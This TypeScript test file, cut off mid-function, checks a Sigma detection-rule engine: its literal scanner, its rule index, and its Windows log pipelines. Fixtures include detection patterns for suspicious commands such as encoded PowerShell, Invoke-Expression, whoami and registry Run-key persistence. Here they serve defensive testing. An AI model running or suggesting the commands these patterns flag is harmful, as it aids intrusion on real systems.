// The indexed engine against evaluating every rule, the literal scanner against `includes`, and
// SigmaHQ-style rules through the built-in windows pipeline.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { loadPipeline } from './builtin-pipelines.js';
import { SigmaEngine, type EngineRule } from './engine.js';
import { LiteralScanner, MAX_LITERAL } from './literal-scan.js';
import { DASHES } from './modifiers.js';
import { parseSigma } from './parse.js';
import { applyPipelines, parsePipeline, type Pipeline } from './pipeline.js';
import type { DetectionItem, RuleError, Search, SigmaFilter, SigmaRule, SigmaValue } from './types.js';

// ---------------------------------------------------------------------------------------------
// LiteralScanner

const cut = (l: string) => l.slice(0, MAX_LITERAL);

/** The literal ids reported for `text`, as a sorted list (with repeats). */
function scanAll(sc: LiteralScanner, text: string): number[] {
  const out: number[] = [];
  sc.scan(text, (id) => out.push(id));
  return out;
}

/**
 * The ids reported as ending at each position 0..text.length: scanning is sequential, so the
 * hits of text[0, k) are those of text[0, k - 1) followed by those ending at k.
 */
function hitsByEnd(sc: LiteralScanner, text: string): number[][] {
  const out: number[][] = [];
  let prev: number[] = [];
  for (let k = 0; k <= text.length; k++) {
    const cur = scanAll(sc, text.slice(0, k));
    assert.deepEqual(cur.slice(0, prev.length), prev, 'scanning a longer text reports the shorter one\'s hits first');
    out.push(cur.slice(prev.length).sort((a, b) => a - b));
    prev = cur;
  }
  return out;
}

/** The oracle: literal i ends at k when text[0, k) ends with its first MAX_LITERAL characters. */
function expectedByEnd(literals: readonly string[], text: string): number[][] {
  const out: number[][] = [];
  for (let k = 0; k <= text.length; k++) {
    const prefix = text.slice(0, k);
    const ids: number[] = [];
    literals.forEach((l, i) => { if (prefix.endsWith(cut(l))) ids.push(i); });
    out.push(ids);
  }
  return out;
}

function foundSet(sc: LiteralScanner, text: string): Set<number> {
  return new Set(scanAll(sc, text));
}

test('LiteralScanner: overlapping literals, prefixes and suffixes of each other, every occurrence', () => {
  const lits = ['he', 'she', 'his', 'hers'];
  const sc = new LiteralScanner(lits);
  const ends = hitsByEnd(sc, 'ushers');
  // u s h e r s: "she" and "he" end after the e (position 4), "hers" after the last s (6).
  assert.deepEqual(ends, [[], [], [], [], [0, 1], [], [3]]);

  const aa = new LiteralScanner(['aa', 'a', 'aaa']);
  assert.equal(scanAll(aa, 'aaaa').filter((id) => id === 0).length, 3, '"aa" occurs three times in "aaaa" (overlapping)');
  assert.equal(scanAll(aa, 'aaaa').filter((id) => id === 1).length, 4);
  assert.equal(scanAll(aa, 'aaaa').filter((id) => id === 2).length, 2);
  assert.deepEqual(expectedByEnd(['aa', 'a', 'aaa'], 'aaaa'), hitsByEnd(aa, 'aaaa'));

  // Suffix links: "bcd" ends inside "abcde"'s path.
  const suf = new LiteralScanner(['abcde', 'bcd', 'cd', 'x']);
  assert.deepEqual([...foundSet(suf, 'zabcdz')].sort(), [1, 2], 'abcde is not complete; bcd and cd are');
  assert.deepEqual([...foundSet(suf, 'abcde')].sort(), [0, 1, 2]);
  // A character that is in no literal restarts the search.
  assert.deepEqual([...foundSet(suf, 'abc-de')], []);

  // The same literal twice: both ids.
  assert.deepEqual(scanAll(new LiteralScanner(['ab', 'ab']), 'xab').sort(), [0, 1]);
});

test('LiteralScanner: literals longer than MAX_LITERAL are matched on their first MAX_LITERAL characters', () => {
  assert.equal(MAX_LITERAL, 16);
  const long = 'c:\\windows\\system32\\drivers\\etc\\hosts';
  const sc = new LiteralScanner([long, 'hosts']);
  assert.deepEqual([...foundSet(sc, `type ${long}`)].sort(), [0, 1]);
  // Only the first 16 characters are looked for: the prefilter lets the rule through and the
  // compiled rule then decides (a prefix of a needed literal is needed too).
  assert.equal(cut(long), 'c:\\windows\\syste');
  assert.deepEqual([...foundSet(sc, 'c:\\windows\\systXX')], []);
  assert.deepEqual([...foundSet(sc, 'c:\\windows\\systeXX')], [0]);
  assert.deepEqual([...foundSet(sc, 'C:\\windows\\system32')], [], 'the caller lower-cases the text');
});

test('LiteralScanner: non-ASCII text and literals, the 8-bit/16-bit table boundary, surrogate pairs', () => {
  const lits = ['é', 'ÿ', 'þ', 'ā', 'σ', 'コマンド', '😀', 'x😀'];
  const sc = new LiteralScanner(lits);
  const text = 'aéb ÿþ āσ コマンドー x😀😀';
  assert.deepEqual(hitsByEnd(sc, text), expectedByEnd(lits, text));
  assert.deepEqual([...foundSet(sc, text)].sort(), [0, 1, 2, 3, 4, 5, 6, 7]);
  // 8-bit table (every literal character below 255): characters above it are in no literal.
  const low = new LiteralScanner(['þ', 'ab']);
  assert.deepEqual([...foundSet(low, 'ÿ þ Ā ab \u{1F600}')].sort(), [0, 1]);
  assert.deepEqual([...foundSet(low, 'ÿĀ\u00fe')], [0]);
  // More than 255 distinct characters: classes do not wrap around.
  const many = Array.from({ length: 600 }, (_, i) => String.fromCharCode(0x400 + i) + 'z');
  const big = new LiteralScanner(many);
  assert.deepEqual([...foundSet(big, String.fromCharCode(0x400 + 599) + 'z' + String.fromCharCode(0x400 + 256) + 'z')].sort((a, b) => a - b), [256, 599]);
  assert.deepEqual([...foundSet(big, String.fromCharCode(0x400 + 599) + 'y')], []);
});

test('LiteralScanner: empty input, no literals, the empty literal', () => {
  assert.deepEqual(scanAll(new LiteralScanner(['a', 'bc']), ''), []);
  assert.deepEqual(scanAll(new LiteralScanner([]), 'anything'), []);
  assert.deepEqual(scanAll(new LiteralScanner([]), ''), []);
  // "" occurs in every text, the empty one included, at every position.
  const e = new LiteralScanner(['', 'a']);
  assert.deepEqual(scanAll(e, ''), [0]);
  assert.deepEqual(hitsByEnd(e, 'ba'), [[0], [0], [0, 1]]);
});

test('LiteralScanner: reports exactly the literals (cut to MAX_LITERAL) ending at each position, property-tested', () => {
  // A small alphabet so that literals overlap and share prefixes and suffixes; characters on
  // both sides of the 8-bit table and a surrogate pair.
  const unit = fc.constantFrom('a', 'b', 'a', 'b', 'c', '-', 'é', 'ÿ', 'ā', '😀', '\\');
  const literal = fc.oneof(
    { weight: 6, arbitrary: fc.string({ unit, minLength: 1, maxLength: 5 }) },
    { weight: 1, arbitrary: fc.string({ unit, minLength: 15, maxLength: 20 }) },
    { weight: 1, arbitrary: fc.constant('') },
  );
  const cases = fc.array(literal, { minLength: 0, maxLength: 8 }).chain((lits) => {
    // Texts made of pieces of the literals (so they occur, overlap and get cut off) and noise.
    const piece = lits.length
      ? fc.oneof(fc.constantFrom(...lits), fc.tuple(fc.constantFrom(...lits), fc.nat(), fc.nat()).map(([l, a, b]) => l.slice(a % (l.length + 1), a % (l.length + 1) + b % 18)), fc.string({ unit, maxLength: 3 }), fc.constantFrom('x', ' ', 'Ā'))
      : fc.string({ unit, maxLength: 3 });
    return fc.tuple(fc.constant(lits), fc.array(fc.array(piece, { maxLength: 6 }).map((ps) => ps.join('')), { minLength: 1, maxLength: 4 }));
  });
  let hits = 0;
  fc.assert(fc.property(cases, ([lits, texts]) => {
    const sc = new LiteralScanner(lits);
    for (const text of texts) {
      assert.deepEqual(hitsByEnd(sc, text), expectedByEnd(lits, text), `${JSON.stringify(lits)} in ${JSON.stringify(text)}`);
      const found = foundSet(sc, text);
      lits.forEach((l, i) => {
        assert.equal(found.has(i), text.includes(cut(l)), `${JSON.stringify(l)} in ${JSON.stringify(text)}`);
        if (text.includes(l)) { assert.ok(found.has(i)); if (l !== '') hits++; }
      });
    }
  }), { numRuns: 1500 });
  assert.ok(hits > 1500, `too few literal occurrences (${hits}) for the property to mean much`);
});

// ---------------------------------------------------------------------------------------------
// Helpers: rules from YAML (JSON is YAML), through pipelines

function parseRules(text: string, file = 'rules/test.yml'): { rules: SigmaRule[]; filters: SigmaFilter[] } {
  const r = parseSigma(text, file);
  assert.deepEqual(r.errors, [], 'the fixture rules parse');
  return {
    rules: r.docs.filter((d): d is SigmaRule => d.type === 'rule'),
    filters: r.docs.filter((d): d is SigmaFilter => d.type === 'filter'),
  };
}

function throughPipelines(rules: SigmaRule[], pipelines: Pipeline[]): SigmaRule[] {
  return rules.map((r) => {
    const x = applyPipelines(r, pipelines);
    if (!('type' in x)) assert.fail(`pipeline refused ${r.title}: ${x.message}`);
    return x;
  });
}

function ruleDoc(id: string, logsource: Record<string, string>, detection: Record<string, unknown>, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ title: `rule ${id}`, id, status: 'test', level: 'high', logsource, detection, ...extra });
}

/** Both matchers' results as rule ids; asserts they agree. */
function bothMatch(engine: SigmaEngine, e: Record<string, unknown>): string[] {
  const a: EngineRule[] = [], b: EngineRule[] = [];
  engine.match(e, a);
  engine.matchAll(e, b);
  const ids = (xs: EngineRule[]) => xs.map((x) => x.rule.id ?? x.rule.title);
  assert.deepEqual(ids(a), ids(b), `indexed and unindexed disagree on ${JSON.stringify(e)}`);
  return ids(a);
}

// ---------------------------------------------------------------------------------------------
// Property: match == matchAll on random rule sets and events

// A pipeline like the built-ins: logsource conditions (an OR of two groups, a list of values,
// two fields, a negated one, one group without any equality, a cased one) and fields with
// several renderings.
const PROP_PIPELINE = parsePipeline([
  'name: prop',
  'transformations:',
  '  - id: ls',
  '    type: add_condition',
  '    rule_conditions: [{type: logsource, category: process_creation}]',
  '    conditions:',
  '      - {EventID: 1, Channel: Microsoft-Windows-Sysmon/Operational}',
  '      - {EventID: 4688, Channel: Security}',
  '  - id: ls',
  '    type: add_condition',
  '    rule_conditions: [{type: logsource, category: registry_event}]',
  '    conditions: {EventID: [12, "13", 14]}',
  '  - id: ls',
  '    type: add_condition',
  '    rule_conditions: [{type: logsource, category: dns}]',
  '    conditions: {class_uid: 4003, query.hostname|exists: true}',
  '  - id: ls',
  '    type: add_condition',
  '    rule_conditions: [{type: logsource, category: mixed}]',
  '    conditions:',
  '      - {EventID: 1}',
  '      - {EventID|startswith: "46"}',
  '  - id: ls',
  '    type: add_condition',
  '    rule_conditions: [{type: logsource, category: not_sysmon}]',
  '    negated: true',
  '    conditions: {EventID: 1}',
  '  - id: ls',
  '    type: add_condition',
  '    rule_conditions: [{type: logsource, category: cased}]',
  '    conditions: {Channel|cased: Security}',
  '  - type: field_name_mapping',
  '    mapping:',
  '      EventID: [EventID, Event.System.EventID, winlog.event_id]',
  '      Channel: [Channel, winlog.channel]',
  '      Image: [Image, NewProcessName]',
  '',
].join('\n'), 'prop-pipeline.yml');

/** The categories whose conditions require a field to equal given values (`cased` is not an equality to the index). */
const FILED = new Set(['process_creation', 'registry_event', 'dns']);
const CATEGORIES = ['process_creation', 'process_creation', 'registry_event', 'dns', 'mixed', 'not_sysmon', 'cased', 'none'];
const WORDS = [
  '\\cmd.exe', 'powershell', '-enc', ' /c ', 'Invoke-Expression', 'whoami', 'C:\\Windows\\System32\\', 'évé', 'ÿ', 'Σσ',
  '4688', '1', '13', '0', 'x', 'http://', 'a-very-long-literal-over-sixteen-chars', 'İ', 'K',
];
const FIELDS = ['Image', 'CommandLine', 'ParentImage', 'EventID', 'Channel', 'proc.cmd', 'items.name', 'User'];
const PLACEHOLDERS = { admins: ['Alice', 'b*ob', 'C\\?'] };
const REGEXES = ['powershell.*-enc', '^c:\\\\windows', 'who?ami', '\\d{2}', 'inv(oke)?-', 'a-very-long-literal', '[ab]c|x\\.exe$', 'é+v', '(?i)whoami', 'Σ'];
const NETS = ['10.0.0.0/8', '192.168.1.0/24', '2001:db8::/32', '8.8.8.8'];
const IPS = ['10.1.2.3', '192.168.1.5', '2001:db8::1', '8.8.8.8', '172.16.0.1', 'not-an-ip'];

const word = fc.constantFrom(...WORDS);
/** A Sigma string: words, wildcards, escapes. */
const sigmaString = fc.tuple(fc.constantFrom('', '', '*', '?'), word, fc.constantFrom('', '', '', '*', '?', '\\*', '\\\\', ' '), fc.option(word), fc.constantFrom('', '', '*'))
  .map(([a, w, mid, w2, z]) => a + w + (w2 === null ? '' : mid + w2) + z);
const plainWord = fc.constantFrom(...WORDS.filter((w) => !/[*?\\]/.test(w)));

type ValueArb = fc.Arbitrary<unknown>;
const vlist = (a: ValueArb, min = 1) => fc.array(a, { minLength: min, maxLength: 3 });
const COMBOS: Array<[string, ValueArb]> = [
  ['', vlist(sigmaString)],
  ['', vlist(fc.oneof(fc.constantFrom(1, 13, 4688, 0, -1, 2.5), fc.boolean()))],
  ['', fc.constant(null)],
  ['|contains', vlist(sigmaString)],
  ['|startswith', vlist(sigmaString)],
  ['|endswith', vlist(sigmaString)],
  ['|contains|all', vlist(sigmaString, 2)],
  ['|cased', vlist(sigmaString)],
  ['|contains|cased', vlist(sigmaString)],
  ['|windash|contains', vlist(sigmaString)],
  ['|contains|windash|all', vlist(sigmaString, 2)],
  ['|base64offset|contains', vlist(plainWord)],
  ['|utf16le|base64offset|contains', vlist(plainWord)],
  ['|base64', vlist(plainWord)],
  ['|wide|contains', vlist(plainWord)],
  ['|neq', vlist(fc.oneof(sigmaString, fc.constantFrom(1, 4688)))],
  ['|re', vlist(fc.constantFrom(...REGEXES.filter((r) => !r.startsWith('(?i)'))))],
  ['|re|i', vlist(fc.constantFrom(...REGEXES))],
  ['|cidr', vlist(fc.constantFrom(...NETS))],
  ['|exists', fc.boolean()],
  ['|lt', vlist(fc.constantFrom(2, 14, 4688))],
  ['|gte', vlist(fc.constantFrom(1, 13, '12.5'))],
  ['|fieldref', vlist(fc.constantFrom('Image', 'ParentImage', 'User'))],
  ['|fieldref|endswith', vlist(fc.constantFrom('Image', 'User'))],
  ['|expand', vlist(fc.constantFrom('%admins%', '%admins%*', '*\\%admins%', 'x%admins%'))],
  ['|expand|contains|windash', vlist(fc.constantFrom('-%admins%', '%admins%'))],
];

/** One search: a map (AND of its items) or a list of maps (OR), or keywords. */
const searchArb: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 8, arbitrary: fc.array(fc.tuple(fc.constantFrom(...FIELDS), fc.constantFrom(...COMBOS)), { minLength: 1, maxLength: 3 }).chain((items) => fc.tuple(...items.map(([f, [mods, vals]]) => vals.map((v) => [f + mods, v] as const)))).map((kv) => Object.fromEntries(kv)) },
  { weight: 2, arbitrary: fc.array(fc.array(fc.tuple(fc.constantFrom(...FIELDS), fc.constantFrom(...COMBOS)), { minLength: 1, maxLength: 2 }).chain((items) => fc.tuple(...items.map(([f, [mods, vals]]) => vals.map((v) => [f + mods, v] as const)))).map((kv) => Object.fromEntries(kv)), { minLength: 2, maxLength: 3 }) },
  { weight: 1, arbitrary: vlist(sigmaString) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('|all', '|re', '|cased'), vlist(sigmaString, 2)).map(([k, v]) => ({ [k]: k === '|re' ? ['who?ami', 'x\\.exe'] : v })) },
);

const NAMES = ['sel_a', 'sel_b', 'filter_x'];
/** Conditions over `n` searches (the first n names). */
function conditionArb(n: number): fc.Arbitrary<string> {
  const names = NAMES.slice(0, n);
  const patterns = ['them', 'sel_*', ...(n === 3 ? ['filter_*'] : [])];
  return fc.letrec<{ c: string }>((tie) => ({
    c: fc.oneof(
      { depthSize: 'small' },
      fc.constantFrom(...names),
      fc.tuple(fc.constantFrom('1', 'all'), fc.constantFrom(...patterns)).map(([q, p]) => `${q} of ${p}`),
      tie('c').map((c) => `not ${c}`),
      fc.tuple(fc.constantFrom(' and ', ' or '), fc.array(tie('c'), { minLength: 2, maxLength: 3 })).map(([op, cs]) => `(${cs.join(op)})`),
    ),
  })).c;
}

/**
 * A rule as parseSigma would read it from `{title, id, logsource, detection}` (built directly:
 * parsing YAML took half the time of this test; the SigmaHQ-style tests below go through YAML).
 */
function ruleOf(id: string, logsource: Record<string, string>, detection: Record<string, unknown>, condition: string): SigmaRule {
  const place = { file: 'rules/random.yml', line: 1, col: 1 };
  const item = (key: string, v: unknown): DetectionItem => {
    const [field, ...modifiers] = key.split('|');
    return { field: field === '' ? null : field!, modifiers, values: (Array.isArray(v) ? v : [v]) as SigmaValue[], place };
  };
  const group = (m: Record<string, unknown>) => Object.entries(m).map(([k, v]) => item(k, v));
  const searches: Record<string, Search> = {};
  for (const [name, d] of Object.entries(detection)) {
    if (Array.isArray(d) && d.every((x) => x !== null && typeof x === 'object')) searches[name] = { groups: (d as Array<Record<string, unknown>>).map(group) };
    else if (Array.isArray(d)) searches[name] = { groups: [[{ field: null, modifiers: [], values: d as SigmaValue[], place }]] };
    else searches[name] = { groups: [group(d as Record<string, unknown>)] };
  }
  return {
    type: 'rule', file: place.file, place, id, title: `rule ${id}`, references: [], tags: [], falsepositives: [], raw: {},
    logsource, detection: searches, condition: [condition], conditions: [], fields: [],
  };
}

const ruleArb = (id: string) => fc.tuple(fc.constantFrom(...CATEGORIES), fc.integer({ min: 1, max: 3 }), fc.array(searchArb, { minLength: 3, maxLength: 3 }))
  .chain(([cat, n, searches]) => conditionArb(n).map((cond) => {
    const detection: Record<string, unknown> = {};
    NAMES.slice(0, n).forEach((name, i) => { detection[name] = searches[i]; });
    return ruleOf(id, cat === 'none' ? { product: 'windows' } : { product: 'windows', category: cat }, detection, cond);
  }));

const filterArb = fc.tuple(fc.constantFrom('r0', 'r1'), searchArb).map(([rule, sel]): SigmaFilter => {
  const r = ruleOf('f', { product: 'windows' }, { selection: sel }, 'selection');
  return { type: 'filter', file: r.file, place: r.place, title: 'a filter', references: [], tags: [], falsepositives: [], raw: {}, logsource: r.logsource, rules: [rule], detection: r.detection, condition: r.condition };
});

/** Every string value of the rules (and the placeholders' values), for events that hit them. */
function stringsOf(rules: readonly SigmaRule[]): string[] {
  const out = new Set<string>(Object.values(PLACEHOLDERS).flat());
  const visit = (s: { groups: Array<Array<{ values: unknown[] }>> }) => { for (const g of s.groups) for (const i of g) for (const v of i.values) if (typeof v === 'string') out.add(v); };
  for (const r of rules) {
    for (const s of Object.values(r.detection)) visit(s);
    for (const c of r.conditions) visit(c.search);
  }
  return [...out];
}

/** A text from a rule string: wildcards filled, escapes undone, case and dashes changed, maybe Base64. */
const derived = (base: string[]): fc.Arbitrary<unknown> => fc.tuple(
  fc.constantFrom(...base), fc.array(fc.constantFrom('', 'a', 'Q', '-x', 'é', '13'), { minLength: 6, maxLength: 6 }),
  fc.constantFrom('keep', 'keep', 'upper', 'lower'), fc.constantFrom('', '', ' ', 'x', 'powershell '), fc.constantFrom('', '', ' ', '.exe'),
  fc.constantFrom('none', 'none', 'none', 'dash', 'b64', 'b64le', 'number'), fc.nat(),
).map(([v, fills, kase, pre, post, how, n]) => {
  let k = 0;
  let t = v.replace(/\\([*?\\%])|[*?]|%admins%/g, (whole, esc: string | undefined) => (esc !== undefined ? esc : whole === '*' ? fills[k++ % fills.length]! : whole === '?' ? 'o' : PLACEHOLDERS.admins[n % 3]!.replace(/[*?\\]/g, '')));
  if (kase === 'upper') t = t.toUpperCase(); else if (kase === 'lower') t = t.toLowerCase();
  t = pre + t + post;
  if (how === 'dash') t = t.replace(/-/g, DASHES[n % DASHES.length]!);
  if (how === 'b64') t = Buffer.from('ab'.slice(0, n % 3) + t.trim(), 'utf8').toString('base64');
  if (how === 'b64le') t = Buffer.from('ab'.slice(0, n % 3) + t.trim(), 'utf16le').toString('base64');
  if (how === 'number' && /^\s*-?\d+(\.\d+)?\s*$/.test(t)) return Number(t);
  return t;
});

const EVENT_IDS: unknown[] = [1, '1', 4688, '4688', 12, '13', 14, 5, '01', ' 1', 1.0, [1, 4688], [5, '13'], 'x', null, true, 'Infinity'];
const CHANNELS: unknown[] = ['Security', 'SECURITY', 'security', 'microsoft-windows-sysmon/operational', 'Microsoft-Windows-Sysmon/Operational', 'System', ['System', 'Security']];

function eventArb(rules: readonly SigmaRule[]): fc.Arbitrary<Record<string, unknown>> {
  const base = stringsOf(rules);
  const scalar: ValueArb = fc.oneof(
    { weight: 4, arbitrary: base.length ? derived(base) : fc.constant('nothing') },
    { weight: 1, arbitrary: fc.constantFrom<unknown>(...IPS, 0, 13, 4688, -1, 2.5, true, null, '', 'Alice', 'bob') },
  );
  const value: ValueArb = fc.oneof({ weight: 5, arbitrary: scalar }, { weight: 1, arbitrary: fc.array(scalar, { maxLength: 3 }) }, { weight: 1, arbitrary: fc.constant({ nested: 'powershell -enc' }) });
  const opt = <T>(a: fc.Arbitrary<T>) => fc.option(a, { freq: 3 });
  return fc.record({
    eventId: opt(fc.tuple(fc.constantFrom(...EVENT_IDS), fc.constantFrom('flat', 'xml', 'beat', 'beatflat'))),
    channel: opt(fc.tuple(fc.constantFrom(...CHANNELS), fc.boolean())),
    image: opt(value), newProcessName: fc.option(value, { freq: 6 }), cmd: opt(value), parent: opt(value), user: opt(value),
    proc: opt(fc.tuple(value, fc.boolean())), items: opt(fc.array(fc.record({ name: value }, { requiredKeys: [] }), { maxLength: 3 })),
    classUid: opt(fc.constantFrom<unknown>(4003, '4003', 1007)), hostname: opt(value), ip: opt(fc.constantFrom(...IPS)),
  }).map((r) => {
    const e: Record<string, unknown> = {};
    if (r.eventId) {
      const [v, where] = r.eventId;
      if (where === 'flat') e['EventID'] = v;
      else if (where === 'xml') e['Event'] = { System: { EventID: v } };
      else if (where === 'beat') e['winlog'] = { event_id: v };
      else e['winlog.event_id'] = v;
    }
    if (r.channel) { const [v, beat] = r.channel; if (beat) e['winlog'] = { ...(e['winlog'] as object | undefined), channel: v }; else e['Channel'] = v; }
    if (r.image !== null) e['Image'] = r.image;
    if (r.newProcessName !== null) e['NewProcessName'] = r.newProcessName;
    if (r.cmd !== null) e['CommandLine'] = r.cmd;
    if (r.parent !== null) e['ParentImage'] = r.parent;
    if (r.user !== null) e['User'] = r.user;
    if (r.proc) { const [v, flat] = r.proc; if (flat) e['proc.cmd'] = v; else e['proc'] = { cmd: v }; }
    if (r.items) e['items'] = r.items;
    if (r.classUid !== null) e['class_uid'] = r.classUid;
    if (r.hostname !== null) e['query'] = { hostname: r.hostname };
    if (r.ip !== null) e['SourceIp'] = r.ip;
    return e;
  });
}

test('SigmaEngine.match returns exactly what matchAll returns, in order, on random rule sets and events', () => {
  const opts = { placeholders: PLACEHOLDERS, unknownPlaceholders: 'match-nothing' as const };
  const stats = { runs: 0, events: 0, matched: 0, filedMatches: 0, indexed: 0, withLiterals: 0, evalsIndexed: 0, evalsAll: 0 };
  const cases = fc.tuple(fc.integer({ min: 1, max: 8 }), fc.option(filterArb, { freq: 4 }))
    .chain(([n, filter]) => fc.tuple(fc.tuple(...Array.from({ length: n }, (_, i) => ruleArb(`r${i}`))), fc.constant(filter ? [filter] : [])))
    .chain(([rules, filters]) => {
      const ready = throughPipelines(rules, [PROP_PIPELINE]);
      return fc.tuple(fc.constant(ready), fc.constant(filters), fc.array(eventArb(ready), { minLength: 4, maxLength: 12 }));
    });
  fc.assert(fc.property(cases, ([rules, filters, events]) => {
    const errors: RuleError[] = [];
    const engine = new SigmaEngine(rules, filters, opts, errors);
    assert.deepEqual(errors, []);
    stats.runs++;
    stats.indexed += engine.stats.indexed;
    stats.withLiterals += engine.stats.withLiterals;
    // Count evaluations: the index must skip rules, not only agree.
    let evals = 0;
    for (const r of engine.rules) { const m = r.compiled.match; r.compiled.match = (e) => { evals++; return m(e); }; }
    const a: EngineRule[] = [], b: EngineRule[] = [];
    for (const e of events) {
      evals = 0;
      engine.match(e, a);
      stats.evalsIndexed += evals;
      evals = 0;
      engine.matchAll(e, b);
      stats.evalsAll += evals;
      const got = a.map((x) => x.index).join(), want = b.map((x) => x.index).join();
      // The message (every rule as JSON) is built only on failure: per event it cost more than the check.
      if (got !== want) assert.fail(`match gave rules [${got}], matchAll [${want}]; rules ${JSON.stringify(rules.map((r) => ({ d: r.detection, c: r.condition, conditions: r.conditions })))} on ${JSON.stringify(e)}`);
      stats.events++;
      if (b.length) stats.matched++;
      // Matches of rules filed under a logsource value: the index let them through.
      stats.filedMatches += b.filter((x) => FILED.has(x.rule.logsource.category ?? '')).length;
    }
  }), { numRuns: 1000 });
  assert.ok(stats.matched > 1800, `too few events matched some rule (${stats.matched} of ${stats.events})`);
  assert.ok(stats.filedMatches > 600, `too few matches of rules filed by logsource: ${JSON.stringify(stats)}`);
  assert.ok(stats.indexed > 1000 && stats.withLiterals > 1000, `the indexes were rarely used: ${JSON.stringify(stats)}`);
  assert.ok(stats.evalsIndexed < stats.evalsAll * 0.7, `the index skipped too few rules: ${JSON.stringify(stats)}`);
});

// ---------------------------------------------------------------------------------------------
// Stats: the index is used

test('stats: rules are filed by logsource and by literal, and an event of another EventID meets none of the filed ones', () => {
  const pipeline = parsePipeline([
    'name: ids',
    'transformations:',
    '  - type: add_condition',
    '    rule_conditions: [{type: logsource, category: process_creation}]',
    '    conditions: [{EventID: 1}, {EventID: 4688}]',
    '  - type: add_condition',
    '    rule_conditions: [{type: logsource, category: registry_set}]',
    '    conditions: {EventID: 13}',
    '',
  ].join('\n'), 'ids.yml');
  const { rules } = parseRules([
    ruleDoc('proc-literal', { category: 'process_creation' }, { selection: { 'Image|endswith': '\\whoami.exe' }, condition: 'selection' }),
    ruleDoc('proc-any', { category: 'process_creation' }, { selection: { 'CommandLine|exists': true }, condition: 'selection' }),
    ruleDoc('reg', { category: 'registry_set' }, { selection: { 'TargetObject|contains': '\\Run\\' }, condition: 'selection' }),
    ruleDoc('everywhere', { product: 'any' }, { selection: { 'User|contains': 'admin' }, condition: 'selection' }),
    ruleDoc('no-index', { product: 'any' }, { selection: { 'User|exists': true }, condition: 'selection' }),
  ].join('\n---\n'));
  const engine = new SigmaEngine(throughPipelines(rules, [pipeline]));
  // proc-any needs no literal of its own, but its logsource condition does ("1" or "4688" in EventID).
  assert.deepEqual(engine.stats, { ...engine.stats, rules: 5, indexed: 3, withLiterals: 4 });
  assert.ok(engine.stats.literals >= 3 && engine.stats.automataBytes > 0);

  const evaluated: string[] = [];
  for (const r of engine.rules) {
    const m = r.compiled.match;
    r.compiled.match = (e) => { evaluated.push(r.rule.id!); return m(e); };
  }
  const run = (e: Record<string, unknown>) => { evaluated.length = 0; const out: EngineRule[] = []; engine.match(e, out); return { matched: out.map((x) => x.rule.id), evaluated: evaluated.slice() }; };

  // EventID 4624 is in no process_creation or registry_set list: none of those is evaluated;
  // "everywhere" has no logsource but needs "admin", which this User lacks.
  assert.deepEqual(run({ EventID: 4624, Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami', TargetObject: 'HKLM\\Run\\x', User: 'bob' }),
    { matched: ['no-index'], evaluated: ['no-index'] });
  // EventID 1: the process rules are candidates; the literal one only if its literal occurs.
  assert.deepEqual(run({ EventID: '1', Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd', User: 'bob' }),
    { matched: ['proc-any', 'no-index'], evaluated: ['proc-any', 'no-index'] });
  assert.deepEqual(run({ EventID: 4688, Image: 'C:\\Windows\\System32\\WHOAMI.EXE', User: 'Administrator' }),
    { matched: ['proc-literal', 'everywhere', 'no-index'], evaluated: ['proc-literal', 'proc-any', 'everywhere', 'no-index'] });
  assert.deepEqual(run({ EventID: 13, TargetObject: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil' }),
    { matched: ['reg'], evaluated: ['reg', 'no-index'] }, 'no-index is tried on every event (nothing to index it by)');
});

test('the logsource index compares values as the rules do: by text, case-insensitively', () => {
  const pipeline = parsePipeline([
    'name: t',
    'transformations:',
    '  - type: add_condition',
    '    rule_conditions: [{type: logsource, category: a}]',
    '    conditions: {EventID: 4688, Channel: Security}',
    '',
  ].join('\n'), 't.yml');
  const { rules } = parseRules(ruleDoc('a', { category: 'a' }, { selection: { 'Image|exists': true }, condition: 'selection' }));
  const engine = new SigmaEngine(throughPipelines(rules, [pipeline]));
  assert.equal(engine.stats.indexed, 1);
  const yes = [
    { EventID: 4688, Channel: 'Security', Image: 'x' },
    { EventID: '4688', Channel: 'SECURITY', Image: 'x' },
    { EventID: [1, '4688'], Channel: ['System', 'security'], Image: 'x' },
  ];
  const no = [
    { EventID: '04688', Channel: 'Security', Image: 'x' },
    { EventID: ' 4688', Channel: 'Security', Image: 'x' },
    { EventID: 4688, Channel: 'Security ', Image: 'x' },
    { EventID: 4688, Image: 'x' },
    { EventID: [[4688]], Channel: 'Security', Image: 'x' },
  ];
  for (const e of yes) assert.deepEqual(bothMatch(engine, e), ['a'], JSON.stringify(e));
  for (const e of no) assert.deepEqual(bothMatch(engine, e), [], JSON.stringify(e));
});

test('numbers that print with letters (Infinity, NaN, 1e+21) are keyed by their lower-cased text', () => {
  const pipeline = parsePipeline([
    'name: t',
    'transformations:',
    '  - type: add_condition',
    '    rule_conditions: [{type: logsource, category: a}]',
    '    conditions: {Value: [infinity, nan, 1E+21]}',
    '',
  ].join('\n'), 't.yml');
  const { rules } = parseRules(ruleDoc('a', { category: 'a' }, { selection: { 'Image|exists': true }, condition: 'selection' }));
  const engine = new SigmaEngine(throughPipelines(rules, [pipeline]));
  assert.equal(engine.stats.indexed, 1);
  for (const v of [Infinity, NaN, 1e21, 'INFINITY', 'NaN']) assert.deepEqual(bothMatch(engine, { Value: v, Image: 'x' }), ['a'], String(v));
  assert.deepEqual(bothMatch(engine, { Value: -Infinity, Image: 'x' }), []);
});

test('a rule with literals is evaluated only when a literal occurs and every field its logsource requires has a listed value', () => {
  const pipeline = parsePipeline([
    'name: t',
    'transformations:',
    '  - type: add_condition',
    '    rule_conditions: [{type: logsource, category: proc}]',
    '    conditions: {Channel: Sysmon, EventID: 1}',
    '  - type: add_condition',
    '    rule_conditions: [{type: logsource, category: file}]',
    '    conditions: {Channel: Sysmon, EventID: 11}',
    '',
  ].join('\n'), 't.yml');
  const { rules } = parseRules([
    ruleDoc('proc', { category: 'proc' }, { selection: { 'Proc.Cmd|contains': 'evil' }, condition: 'selection' }),
    ruleDoc('file', { category: 'file' }, { selection: { 'Target|contains': 'evil' }, condition: 'selection' }),
  ].join('\n---\n'));
  const engine = new SigmaEngine(throughPipelines(rules, [pipeline]));
  const evaluated: string[] = [];
  for (const r of engine.rules) {
